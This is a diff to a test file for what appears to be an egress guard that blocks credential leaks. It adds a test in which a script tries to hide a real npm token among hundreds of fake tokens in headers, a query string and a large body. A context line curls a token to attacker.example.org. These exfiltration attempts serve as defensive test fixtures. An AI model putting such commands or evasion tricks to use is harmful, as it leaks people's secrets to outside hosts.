@@ -105,6 +105,28 @@ def test_the_jobs_own_are_not_foreign(world: World) -> None:
     assert [(one["checked"], one["denied"]) for one in seen(outcome)] == [("fails", False)]
 
 
+CROWDED = SEND + textwrap.dedent(
+    """
+    import os
+    fakes = [f"ghp_{number:036d}" for number in range(200)]
+    theirs = os.environ["BROUGHT_ALONG"]
+    send("many headers before", "GET", headers={**{f"X-{number}": fake for number, fake in enumerate(fakes[:60])}, "Authorization": "Bearer " + theirs})
+    send("many in the query", "GET", "/?" + "&".join(fakes) + "&key=" + theirs)
+    send("many literals", body="ghp_ " * 20000 + "token=" + theirs, headers={"Content-Type": "text/plain"})
+    """
+)
+
+
+def test_it_does_not_hide_in_a_crowd(world: World) -> None:
+    """Of look-alikes only so many are recorded, and only so many are looked at; beyond that a request is denied."""
+    text = "allow: [{ host: api.example.com, credentials: own }]\n"
+    outcome = world.guard.run(policy(world, text), [PYTHON, "-c", CROWDED], env={"BROUGHT_ALONG": sample("npm-token")})
+    assert set(sent(outcome).values()) == {"403"}, outcome.stdout
+    assert len(sent(outcome)) == 3
+    assert world.received(*APIS).strip() == b""
+    assert "npm-token" in {one["kind"] for one in seen(outcome) if one["denied"]}
+
+
 def test_to_a_denied_host_nobody_cares_whose_it_is(world: World) -> None:
     command = ["sh", "-c", 'curl -sS -H "Authorization: Bearer $0" https://attacker.example.org/', sample("npm-token")]
     outcome = world.guard.run(policy(world, "credentials: own\nallow: [api.example.com]\n"), command)
